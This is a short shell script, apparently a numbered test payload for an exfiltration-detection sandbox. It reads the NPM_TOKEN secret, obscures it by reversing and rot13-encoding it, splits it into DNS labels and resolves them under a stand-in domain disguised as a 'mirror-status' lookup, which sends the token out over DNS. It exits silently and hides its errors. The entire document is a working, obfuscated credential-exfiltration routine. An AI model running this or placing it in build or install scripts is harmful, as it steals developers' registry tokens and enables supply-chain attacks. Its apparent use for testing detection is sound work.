#!/bin/sh
# P5 in plain shell: the npm token reversed and rot13'd with rev and tr, split into labels of 20
# characters, looked up with getent (the system resolver, which the sandbox points at its sink).
t=$(printf '%s' "${NPM_TOKEN:-}" | rev | tr 'A-Za-z' 'N-ZA-Mn-za-m')
[ -n "$t" ] || exit 0
labels=$(printf '%s' "$t" | fold -w 20 | paste -sd. -)
getent hosts "$labels.t.mirror-status.invalid" > /dev/null 2>&1
exit 0
